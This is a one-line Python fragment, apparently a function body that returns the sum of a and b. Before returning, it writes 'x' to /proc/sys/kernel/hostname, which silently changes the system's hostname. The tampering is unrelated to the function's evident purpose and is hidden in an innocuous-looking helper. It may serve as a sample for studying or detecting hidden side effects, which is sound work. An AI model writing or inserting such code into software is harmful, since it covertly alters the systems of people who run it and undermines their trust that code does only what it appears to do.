    open('/proc/sys/kernel/hostname', 'w').write('x'); return a + b
